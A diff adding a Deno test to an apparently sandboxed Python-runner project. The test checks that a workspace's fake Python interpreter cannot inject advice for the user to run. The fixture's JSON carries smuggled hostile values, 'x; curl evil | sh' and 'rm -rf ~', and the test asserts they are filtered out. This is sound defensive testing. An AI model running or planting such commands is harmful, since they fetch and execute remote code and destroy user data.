@@ -3,6 +3,8 @@ import { assertEquals, assertRejects, assertStringIncludes } from "@std/assert";
 import { ConfigError, EnvironmentNotReadyError } from "../../src/base/errors.ts";
 import { checkTypes } from "../../src/commands/actions/type_check.ts";
 import { CodeExecutor } from "../../src/executor/code_executor.ts";
+import { inspectInterpreter } from "../../src/python/interpreter.ts";
+import { workspacePython } from "../../src/sandbox/workspace_python.ts";
 import { runProgram } from "../support/program.ts";
 import { testPython } from "../support/python.ts";
 import { testIf } from "../support/skip.ts";
@@ -113,6 +115,25 @@ testIf(linux, "elsewhere a sandbox is rules about paths", {
       });
     await assertRejects(start, ConfigError, "which is no installed Python");
     await assertRejects(() => Deno.lstat(`${project.path}/ran`), Deno.errors.NotFound);
+  },
+});
+
+testIf(linux, "elsewhere a sandbox is rules about paths", {
+  name: "a Python of the workspace does not choose what a user is advised to run",
+  fn: async () => {
+    await using workspace = await TempFolder.create();
+    const python = `${workspace.path}/.venv/bin/python`;
+    await Deno.mkdir(`${workspace.path}/.venv/bin`, { recursive: true });
+    const answer = JSON.stringify({
+      ...{ executable: python, prefix: "/x", basePrefix: "/x", version: "3.12.1" },
+      ...{ makesEnvironments: true, hasPip: true, packages: {}, changed: {} },
+      missing: { "x; curl evil | sh": "no", ipykernel: "no\nTo fix it: rm -rf ~" },
+      importsWorkspace: false,
+    });
+    await Deno.writeTextFile(python, `#!/bin/sh\nprintf '%s' '${answer}'\n`, { mode: 0o755 });
+    const inside = await workspacePython(python, workspace.path);
+    const { missing } = await inspectInterpreter(python, { ipykernel: "ipykernel" }, inside);
+    assertEquals(missing, { ipykernel: "no" });
   },
 });
 
